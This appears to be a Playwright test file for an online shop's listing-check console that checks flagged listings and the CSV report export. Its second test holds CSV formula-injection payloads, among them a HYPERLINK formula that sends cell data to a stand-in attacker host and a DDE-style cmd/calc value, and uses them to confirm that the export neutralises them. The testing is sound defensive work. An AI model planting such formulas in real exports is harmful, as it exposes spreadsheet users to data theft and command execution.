/** The merchant's listing check: a catalog file's texts and images checked on the device; report as CSV. */
import { expect, test } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { openShop } from './helpers.ts';

/** A plain PNG of one colour (a product photo stand-in: neutral content). */
function png(width: number, height: number, rgb: [number, number, number]): Buffer {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (buf: Buffer) => {
    let c = 0xffffffff;
    for (const b of buf) c = crcTable[(c ^ b) & 0xff] ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type), data]);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([len, body, sum]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  const raw = Buffer.alloc((width * 3 + 1) * height);
  for (let y = 0; y < height; y++) for (let x = 0; x < width; x++) raw.set(rgb, y * (width * 3 + 1) + 1 + x * 3);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(raw)), chunk('IEND', Buffer.alloc(0))]);
}

test('a catalog file is checked in the background: flagged listings with reasons, the report as CSV', async ({ page }) => {
  await openShop(page, '#/store');
  await page.getByTestId('catalog-file').setInputFiles('tests/fixtures/catalogs/listings-to-check.json');
  await expect(page.getByTestId('catalog-report')).toContainText('4 products ready');
  // The listing check is the console's Listings section; it checks the file just imported.
  await page.getByTestId('console-tab-listings').click();
  const check = page.getByTestId('listing-check');
  await check.getByTestId('listing-images').setInputFiles([{ name: 'L1.png', mimeType: 'image/png', buffer: png(64, 64, [200, 180, 150]) }]);
  await check.getByTestId('run-check').click();
  await expect(check.getByTestId('check-progress')).toHaveText('4 of 4 checked', { timeout: 90_000 });
  await expect(check.getByTestId('check-summary')).toContainText('2 of 4 listings need attention');
  const flagged = check.getByTestId('flagged');
  await expect(flagged.locator('tr[data-id="L2"]')).toContainText(/prohibited|claim/i);
  await expect(flagged.locator('tr[data-id="L3"]')).toContainText(/phone|e-mail/i);
  await expect(flagged.locator('tr[data-id="L1"]')).toHaveCount(0);

  const download = page.waitForEvent('download');
  await check.getByTestId('export-report').click();
  const csv = readFileSync(await (await download).path(), 'utf8').trim().split(/\r?\n/);
  expect(csv[0]).toBe('id,title,decision,text_decision,categories,reasons,image_decision,image_score');
  expect(csv).toHaveLength(5);
  const l1 = csv.find((l) => l.startsWith('L1,'))!;
  expect(l1).toMatch(/,allow,allow,,,allow,0\.\d{3}$/);
  expect(csv.find((l) => l.startsWith('L2,'))).toMatch(/prohibited/);
});

test('the report CSV cannot run formulas in a spreadsheet: cells that start with = + - @ are neutralised', async ({ page }) => {
  const products = [
    { id: 'F1', title: '=HYPERLINK("http://evil.example/?q="&A1,"Click")', price: 10, currency: 'INR' },
    { id: '+cmd|\' /C calc\'!A0', title: 'Mug', price: 10, currency: 'INR' },
    { id: 'F3', title: '@SUM(1+1)', price: 10, currency: 'INR' },
  ];
  await openShop(page, '#/store');
  await page.getByTestId('catalog-file').setInputFiles({ name: 'formulas.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(products)) });
  await expect(page.getByTestId('catalog-report')).toContainText('3 products ready');
  await page.getByTestId('console-tab-listings').click();
  const check = page.getByTestId('listing-check');
  await check.getByTestId('run-check').click();
  await expect(check.getByTestId('check-progress')).toHaveText('3 of 3 checked', { timeout: 90_000 });
  const download = page.waitForEvent('download');
  await check.getByTestId('export-report').click();
  const csv = readFileSync(await (await download).path(), 'utf8');
  expect(csv).toContain(`F1,"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")"`);
  expect(csv).toContain(`'+cmd|' /C calc'!A0,Mug,`);
  expect(csv).toContain(`F3,'@SUM(1+1),`);
  // No cell of the file starts with a formula character.
  for (const line of csv.trim().split(/\r\n/)) expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
});
